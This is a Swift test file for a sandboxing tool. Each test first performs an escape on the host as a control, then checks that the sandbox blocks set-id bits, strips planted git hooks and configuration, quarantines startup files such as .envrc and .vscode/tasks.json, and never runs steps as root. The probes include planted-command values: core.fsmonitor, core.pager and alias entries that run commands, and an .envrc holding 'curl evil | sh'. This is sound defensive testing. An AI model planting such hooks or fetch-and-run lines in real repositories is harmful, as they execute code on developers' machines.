import Foundation
import Glibc
import LaneTestSupport
import Testing

/// Issue 10: what a step leaves behind is not something the host will execute or trust, and no
/// process of a step is host root. Each test first shows the probe does the forbidden thing on
/// the host (the control), then that the sandbox refuses it or leaves nothing behind.
@Suite("Escape: nothing the host executes or trusts", .serialized)
struct HostTrustTests {
    /// The identity's host uid (the workspace files it must own).
    static func uid(_ identity: LanesCLI.Identity) -> UInt32 { identity == .unprivileged ? 65534 : getuid() }

    /// Runs `script` with sh as `identity` on the host, in `dir`: the control half.
    static func hostShell(_ identity: LanesCLI.Identity, _ script: String, in dir: String) throws -> Escape.Ran {
        let env = ["PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/tmp"]
        if identity == .unprivileged {
            return try Escape.host("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", "-c", script],
                                   environment: env, cwd: dir)
        }
        return try Escape.host("/bin/sh", ["-c", script], environment: env, cwd: dir)
    }

    static func mode(_ path: String) -> mode_t? {
        var st = stat()
        return lstat(path, &st) == 0 ? st.st_mode : nil
    }

    /// Every file under `dir` (not below `skip`) whose mode has S_ISUID or S_ISGID.
    static func setidFiles(_ dir: String, skipping skip: [String] = []) -> [String] {
        let all = FileManager.default.enumerator(atPath: dir)?.compactMap { $0 as? String } ?? []
        return all.filter { rel in !skip.contains { rel == $0 || rel.hasPrefix($0 + "/") } }.filter { rel in
            guard let m = mode(dir + "/" + rel) else { return false }
            return m & (S_ISUID | S_ISGID) != 0 && (m & S_IFMT) != S_IFDIR
        }
    }

    static func chownTree(_ path: String, _ uid: UInt32) throws {
        _ = try Escape.host("/bin/chown", ["-R", "\(uid):\(uid)", path])
    }

    static func json(_ text: String) -> [String: Any] {
        (try? JSONSerialization.jsonObject(with: Data(text.utf8))) as? [String: Any] ?? [:]
    }

    static func denials(_ text: String) -> [(kind: String, name: String)] {
        ((json(text)["denials"] as? [[String: Any]]) ?? []).map { ($0["kind"] as? String ?? "", $0["name"] as? String ?? "") }
    }

    // MARK: set-id modes

    static let setidCalls = ["chmod", "fchmod", "fchmodat", "fchmodat2", "open", "openat", "creat", "mknod", "mknodat"]

    @Test("no mode-setting call or mode-copying tool leaves S_ISUID/S_ISGID", arguments: Escape.identities)
    func setidModes(_ identity: LanesCLI.Identity) throws {
        if Escape.skips(identity) { return }
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        // Sources for the copying tools, owned by the identity so the host control keeps the bits.
        try FileManager.default.createDirectory(atPath: ws + "/src", withIntermediateDirectories: true)
        _ = FileManager.default.createFile(atPath: ws + "/src/suid", contents: Data("x".utf8))
        _ = FileManager.default.createFile(atPath: ws + "/src/plain", contents: Data("x".utf8))
        try Self.chownTree(ws + "/src", Self.uid(identity))
        chmod(ws + "/src/suid", 0o6755)
        for dir in ["control", "step"] {
            try FileManager.default.createDirectory(atPath: ws + "/" + dir, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o777])
        }
        let tools = """
            cp -p ../src/suid t-cp; mkdir t-tar; tar -C ../src -cf - suid | tar -xpf - -C t-tar
            install -m 4755 ../src/plain t-install; rsync -p ../src/suid t-rsync; cp ../src/plain t-chmod; chmod u+s,g+s t-chmod
            exit 0
            """
        // Control: on the host every call and every tool sets the bits.
        let control = try Self.hostShell(identity, "../modes; " + tools, in: ws + "/control")
        let host = Escape.results(control.stdout)
        for call in Self.setidCalls + ["openat2"] {
            #expect(host[call] == 0, "control \(call): \(control)")
            #expect((Self.mode(ws + "/control/m-" + call) ?? 0) & (S_ISUID | S_ISGID) != 0, "control \(call) left no set-id bit")
        }
        for made in ["t-cp", "t-tar/suid", "t-install", "t-rsync", "t-chmod"] {
            #expect((Self.mode(ws + "/control/" + made) ?? 0) & (S_ISUID | S_ISGID) != 0, "control \(made) left no set-id bit: \(control)")
        }
        // Sandbox: each refused with EPERM (openat2: ENOSYS), ordinary modes still work.
        let ran = try Escape.step(identity, in: ws, ["sh", "-c", "cd step && ../modes; " + tools], json: true)
        let out = Self.json(ran.stdout)
        let sandbox = Escape.results(out["stdout"] as? String ?? "")
        for call in Self.setidCalls + ["mkdir", "mkdirat"] { #expect(sandbox[call] == EPERM, "\(call): \(ran)") }
        #expect(sandbox["openat2"] == ENOSYS, "\(ran)")
        #expect(sandbox["chmod_plus_x"] == 0 && sandbox["mkdir_sticky"] == 0 && sandbox["chmod_sticky"] == 0, "\(ran)")
        #expect((Self.mode(ws + "/step/m-plusx") ?? 0) & 0o111 == 0o111)
        #expect((Self.mode(ws + "/step/m-sticky") ?? 0) & S_ISVTX != 0)
        #expect(Self.setidFiles(ws, skipping: ["src", "control"]) == [], "\(ran)")
        let kinds = Self.denials(ran.stdout)
        #expect(kinds.contains { $0.kind == "setid_bit" && $0.name == "fchmodat" }, "\(kinds)")
        #expect(kinds.contains { $0.kind == "setid_bit" && $0.name == "openat" }, "\(kinds)")
    }

    @Test("in kill mode a set-id mode is still EPERM, not a kill", arguments: Escape.identities)
    func setidInKillMode(_ identity: LanesCLI.Identity) throws {
        if Escape.skips(identity) { return }
        let config = try LanesCLI.temporaryDirectory("lanes-trust-kill")
        defer { Escape.remove(config) }
        try FileManager.default.createDirectory(atPath: config + "/Profiles", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: config + "/Lanes", withIntermediateDirectories: true)
        try "description = \"k\"\n[seccomp]\ndefault_action = \"kill\"\n".write(toFile: config + "/Profiles/k.toml", atomically: true, encoding: .utf8)
        try "description = \"k\"\nowner = \"t\"\nprofile = \"k\"\n".write(toFile: config + "/Lanes/k.toml", atomically: true, encoding: .utf8)
        chmod(config, 0o755)
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        let out = try LanesCLI.run(["run", "k", "--workspace", ws, "--json", "--", ws + "/modes"], as: identity, config: config,
                                   environment: Escape.environment(identity))
        let result = Self.json(out.stdout)
        #expect(result["outcome"] as? String == "exited", "\(out.stdout) \(out.stderr)")
        let calls = Escape.results(result["stdout"] as? String ?? "")
        #expect(calls["chmod"] == EPERM && calls["openat"] == EPERM && calls["chmod_plus_x"] == 0, "\(calls)")
        #expect(Self.setidFiles(ws) == [])
    }

    // MARK: git hooks and configuration

    static let gitScript = """
        g="git -c user.email=t@example.com -c user.name=t -c init.defaultBranch=main"
        printf '#!/bin/sh\\necho ran\\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
        git config core.fsmonitor 'touch /tmp/fsmonitor-ran'
        $g checkout -q -b topic && echo OK-branch
        echo a > a.txt && git add a.txt && $g commit -qm a && echo OK-commit
        echo b > a.txt && $g stash -q && $g stash pop -q && echo OK-stash
        $g commit -qam b && $g checkout -q main && echo c > c.txt && git add c.txt && $g commit -qm c
        $g checkout -q topic && $g rebase -q main && echo OK-rebase
        $g init -q made && printf '#!/bin/sh\\n' > made/.git/hooks/post-checkout && git -C made config core.pager 'sh -c evil'
        $g clone -q . cloned && printf '#!/bin/sh\\n' > cloned/.git/hooks/pre-commit && git -C cloned config alias.st '!evil'
        mkdir pointer && printf 'gitdir: /tmp/elsewhere\\n' > pointer/.git
        exit 0
        """

    /// A repository (branch main, one commit) owned by `uid`.
    static func repository(_ dir: String, uid: UInt32) throws {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o777])
        let git = "git -c user.email=t@example.com -c user.name=t -c init.defaultBranch=main"
        _ = try Escape.host("/bin/sh", ["-c", "\(git) init -q . && \(git) commit -q --allow-empty -m init"], cwd: dir)
        try chownTree(dir, uid)
    }

    static func configValue(_ file: String, _ key: String) throws -> String {
        try Escape.host("/usr/bin/git", ["config", "--file", file, "--get", key]).stdout
    }

    static func hooks(_ dir: String) -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []).filter { !$0.hasSuffix(".sample") }
    }

    @Test("hooks and git configuration cannot be planted: existing repository, git init, git clone, a .git file", arguments: Escape.identities)
    func gitPlanting(_ identity: LanesCLI.Identity) throws {
        if Escape.skips(identity) { return }
        let base = try LanesCLI.temporaryDirectory("lanes-trust-git")
        defer { Escape.remove(base) }
        // Control: on the host the script plants everything.
        let control = base + "/control", ws = base + "/ws"
        try Self.repository(control, uid: Self.uid(identity))
        let c = try Self.hostShell(identity, Self.gitScript, in: control)
        #expect(FileManager.default.fileExists(atPath: control + "/.git/hooks/post-checkout"), "control: \(c)")
        #expect(try Self.configValue(control + "/.git/config", "core.fsmonitor").contains("touch"), "control: \(c)")
        #expect(Self.hooks(control + "/made/.git/hooks") == ["post-checkout"], "control: \(c)")
        #expect(try Self.configValue(control + "/made/.git/config", "core.pager").contains("evil"))
        #expect(Self.hooks(control + "/cloned/.git/hooks") == ["pre-commit"])
        #expect(FileManager.default.fileExists(atPath: control + "/pointer/.git"))
        // Sandbox: git works, nothing is left that the host's git would run.
        try Self.repository(ws, uid: Self.uid(identity))
        let ran = try Escape.step(identity, in: ws, ["sh", "-c", Self.gitScript], json: true)
        let stdout = Self.json(ran.stdout)["stdout"] as? String ?? ""
        for ok in ["OK-branch", "OK-commit", "OK-stash", "OK-rebase"] { #expect(stdout.contains(ok), "\(ok): \(ran)") }
        #expect(!FileManager.default.fileExists(atPath: ws + "/.git/hooks/post-checkout"), "\(ran)")
        #expect(try Self.configValue(ws + "/.git/config", "core.fsmonitor").isEmpty, "\(ran)")
        #expect(Self.hooks(ws + "/made/.git/hooks").isEmpty, "\(ran)")
        #expect(try Self.configValue(ws + "/made/.git/config", "core.pager").isEmpty, "\(ran)")
        #expect(try Self.configValue(ws + "/made/.git/config", "core.bare").contains("false"), "the filtered config keeps safe keys")
        #expect(Self.hooks(ws + "/cloned/.git/hooks").isEmpty, "\(ran)")
        #expect(try Self.configValue(ws + "/cloned/.git/config", "alias.st").isEmpty, "\(ran)")
        #expect(try Self.configValue(ws + "/cloned/.git/config", "remote.origin.url").contains(ws), "the clone keeps its remote")
        #expect(!FileManager.default.fileExists(atPath: ws + "/pointer/.git"), "\(ran)")
        let names = Self.denials(ran.stdout).filter { $0.kind == "protected_path" }.map(\.name)
        for expected in ["made/.git/hooks", "cloned/.git/hooks", "pointer/.git"] { #expect(names.contains(expected), "\(names)") }
    }

    @Test("a protected path the step creates is quarantined; a lane can unprotect it with a reason", arguments: Escape.identities)
    func plantedStartupFiles(_ identity: LanesCLI.Identity) throws {
        if Escape.skips(identity) { return }
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        let script = "echo 'curl evil | sh' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo x > .bashrc"
        // Control: on the host they are written.
        let control = try LanesCLI.temporaryDirectory("lanes-trust-control")
        defer { Escape.remove(control) }
        _ = try Self.hostShell(identity, script, in: control)
        #expect(FileManager.default.fileExists(atPath: control + "/.envrc") && FileManager.default.fileExists(atPath: control + "/.vscode/tasks.json"))
        let ran = try Escape.step(identity, in: ws, ["sh", "-c", script], json: true)
        for path in [".envrc", ".vscode", ".bashrc"] {
            #expect(Self.mode(ws + "/" + path) == nil, "\(path) left: \(ran)")
            #expect(Self.mode(ws + "/" + path + ".lanes-quarantine") != nil, "\(path) not quarantined: \(ran)")
        }
        // An existing one is read-only in the step.
        _ = FileManager.default.createFile(atPath: ws + "/.envrc", contents: Data("ok\n".utf8))
        try Self.chownTree(ws + "/.envrc", Self.uid(identity))
        let write = try Escape.step(identity, in: ws, ["sh", "-c", "echo evil >> .envrc"])
        #expect(write.status != 0 && write.stderr.contains("Read-only"), "\(write)")
        #expect((try? String(contentsOfFile: ws + "/.envrc", encoding: .utf8)) == "ok\n")
    }

    @Test("a lane's [unprotect] entry lets its steps write that path, and the result records the reason")
    func unprotectedByLane() throws {
        if Escape.skips(.current) { return }
        let config = try LanesCLI.temporaryDirectory("lanes-trust-config")
        defer { Escape.remove(config) }
        try FileManager.default.createDirectory(atPath: config + "/Profiles", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: config + "/Lanes", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: LanesCLI.packageRoot.path + "/Profiles/workspace-write.toml", toPath: config + "/Profiles/workspace-write.toml")
        try """
            description = "Edits editor settings."
            owner = "tests"
            profile = "workspace-write"

            [unprotect]
            ".vscode" = "this lane maintains the shared editor settings"
            """.write(toFile: config + "/Lanes/editor.toml", atomically: true, encoding: .utf8)
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        let out = try LanesCLI.run(["run", "editor", "--workspace", ws, "--json", "--", "sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json && echo x > .envrc"],
                                   config: config, environment: Escape.environment(.current))
        let result = Self.json(out.stdout)
        #expect(FileManager.default.fileExists(atPath: ws + "/.vscode/settings.json"), "\(out.stdout) \(out.stderr)")
        #expect(Self.mode(ws + "/.envrc") == nil, "the rest stays protected")
        #expect((result["unprotected"] as? [String]) == [".vscode: this lane maintains the shared editor settings"], "\(out.stdout)")
    }

    // MARK: never host root

    /// Uid and Gid lines of /proc/PID/status: [real, effective, saved, fs] each.
    static func ids(_ pid: String) -> (uid: [String], gid: [String], ppid: String)? {
        guard let text = try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8) else { return nil }
        var uid: [String] = [], gid: [String] = [], ppid = ""
        for line in text.split(separator: "\n") {
            let f = line.split(whereSeparator: { $0 == "\t" || $0 == " " }).map(String.init)
            if f.first == "Uid:" { uid = Array(f.dropFirst()) }
            if f.first == "Gid:" { gid = Array(f.dropFirst()) }
            if f.first == "PPid:" { ppid = f.count > 1 ? f[1] : "" }
        }
        return (uid, gid, ppid)
    }

    @Test("as root, no process of the step is host root and its files belong to the workspace's owner", arguments: [UInt32(4242), 0])
    func neverHostRoot(_ owner: UInt32) throws {
        guard getuid() == 0 else {
            print("SKIP: neverHostRoot: the tests run as uid \(getuid()), not root")
            return
        }
        // Control: the parser sees root where it is.
        #expect(Self.ids("self")?.uid == ["0", "0", "0", "0"])
        let ws = try LanesCLI.temporaryDirectory("lanes-trust-owner")
        defer { Escape.remove(ws) }
        chmod(ws, 0o755)
        _ = try Escape.host("/bin/chown", ["\(owner):\(owner)", ws])
        let marker = "\(Int.random(in: 100_000...999_999))"
        let state = try LanesCLI.temporaryDirectory("lanes-trust-state")
        defer { Escape.remove(state) }
        let process = try LanesCLI.start(["run", "engineering", "--workspace", ws, "--", "sh", "-c", "touch made; mkdir dir; exec sleep 3.\(marker)"],
                                         config: LanesCLI.packageRoot.path, state: state + "/s", cwd: ws)
        var seen: [(uid: [String], gid: [String], ppid: String)] = []
        for _ in 0..<100 where seen.isEmpty {
            usleep(50_000)
            // Only the exec'd sleep: before its exec, `sh -c …` and a forked child of it (about to
            // exec touch or mkdir) carry the same command line.
            for line in Escape.hostProcesses(containing: "sleep 3.\(marker)") where !line.contains("lanes run") && !line.contains("sh -c") {
                let pid = String(line.prefix { $0 != ":" })
                if let tool = Self.ids(pid) {
                    seen.append(tool)
                    if let initIds = Self.ids(tool.ppid) { seen.append(initIds) }  // lane-init, PID 1
                }
            }
        }
        process.waitUntilExit()
        #expect(seen.count == 2, "the step's processes were not found")
        for ids in seen {
            #expect(!ids.uid.contains("0") && !ids.gid.contains("0"), "host uid/gid 0 in a step: \(ids)")
            if owner != 0 { #expect(ids.uid == Array(repeating: "\(owner)", count: 4), "\(ids)") }
        }
        for made in ["made", "dir"] {
            var st = stat()
            #expect(lstat(ws + "/" + made, &st) == 0 && st.st_uid == owner && st.st_gid == owner, "\(made): \(st.st_uid):\(st.st_gid)")
        }
    }

    @Test("unprivileged, the step still maps to the caller: its files are the caller's")
    func unprivilegedMapsToCaller() throws {
        if Escape.skips(.unprivileged) { return }
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        let ran = try Escape.step(.unprivileged, in: ws, ["sh", "-c", "touch made"], json: true)
        var st = stat()
        #expect(lstat(ws + "/made", &st) == 0 && st.st_uid == 65534 && st.st_gid == 65534, "\(ran)")
        #expect(Self.json(ran.stdout)["host_identity"] is NSNull, "no identity change without root: \(ran.stdout.prefix(300))")
    }

    // MARK: denials halt a run

    @Test("the extraction lane halts the run on unshare and ptrace in errno mode, with both denials recorded", arguments: Escape.identities)
    func extractionHalts(_ identity: LanesCLI.Identity) throws {
        if Escape.skips(identity) { return }
        let ws = try Escape.workspace()
        defer { Escape.remove(ws) }
        // Control: on the host both calls work.
        let control = Escape.results(try Escape.host(ws + "/syscalls", ["unshare_user", "ptrace_child"]).stdout)
        #expect(control["unshare_user"] == 0 && control["ptrace_child"] == 0, "control: \(control)")
        let env = Escape.environment(identity)
        let run = "halt-\(Int.random(in: 100_000...999_999))"
        let out = try LanesCLI.run(["run", "extraction", "--workspace", ws, "--run", run, "--json", "--", ws + "/syscalls", "unshare_user", "ptrace_child"],
                                   as: identity, environment: env)
        let result = Self.json(out.stdout)
        let inside = Escape.results(result["stdout"] as? String ?? "")
        #expect(inside["unshare_user"] == EPERM && inside["ptrace_child"] == EPERM, "\(out.stdout) \(out.stderr)")
        let names = Self.denials(out.stdout).filter { $0.kind == "seccomp" }.map(\.name)
        #expect(names.contains("unshare") && names.contains("ptrace"), "\(names)")
        #expect(out.stderr.contains("halt_on"), "\(out.stderr)")
        // The journal keeps them: `lanes show` lists both under the step.
        let shown = try LanesCLI.run(["show", run, "--json"], as: identity, environment: env)
        #expect(shown.stdout.contains("\"name\":\"unshare\"") && shown.stdout.contains("\"name\":\"ptrace\""), "\(shown.stdout)")
        // The run is stopped: its next step does not run.
        let next = try LanesCLI.run(["run", "extraction", "--workspace", ws, "--run", run, "--", "true"], as: identity, environment: env)
        #expect(next.status != 0 && next.stderr.contains("stopped"), "\(next.stderr)")
    }
}
